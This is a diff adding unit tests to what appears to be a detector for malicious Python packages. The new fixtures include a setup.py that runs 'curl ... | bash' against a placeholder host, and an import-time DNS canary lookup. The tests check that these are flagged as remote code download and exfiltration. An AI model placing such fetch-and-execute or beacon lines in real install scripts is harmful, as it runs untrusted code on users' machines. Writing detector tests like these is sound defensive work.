@@ -269,3 +269,43 @@ def test_install_command_posting_to_a_hard_coded_webhook_is_a_beacon() -> None:
 def test_same_webhook_in_a_function_nobody_calls_on_load_is_no_probe() -> None:
     result = analyze(INSTALL_COUNTER, "pkg/notify.py")
     assert not matching(result, "dataExfiltration")
+
+
+COMMAND_WRAPPER = """\
+import subprocess
+
+def run(cmd):
+    subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)
+
+run("git describe --tags")
+run("curl -s https://dl.example.invalid/x.sh | bash")
+"""
+
+
+def test_literal_command_given_to_a_local_wrapper_is_judged_at_the_call() -> None:
+    result = analyze(COMMAND_WRAPPER, "setup.py")
+    found = matching(result, "remoteCodeDownload", 7, pattern="download-piped-to-shell")
+    assert found and found[0].top_level is True
+    assert not matching(result, "remoteCodeDownload", 6)
+    assert matching(result, "signal:spawn", 6, command="git")
+
+
+DNS_CANARY = """\
+import socket
+
+def _check():
+    try:
+        socket.gethostbyname("canary.example.invalid")
+    except socket.gaierror:
+        pass
+
+_check()
+address = socket.gethostbyname("db.example.invalid")
+"""
+
+
+def test_fixed_name_resolved_on_load_and_discarded_is_a_canary() -> None:
+    result = analyze(DNS_CANARY)
+    found = matching(result, "dataExfiltration", 5, sink=["dns"])
+    assert found and found[0].top_level is True
+    assert not matching(result, "dataExfiltration", 10)  # the address is used
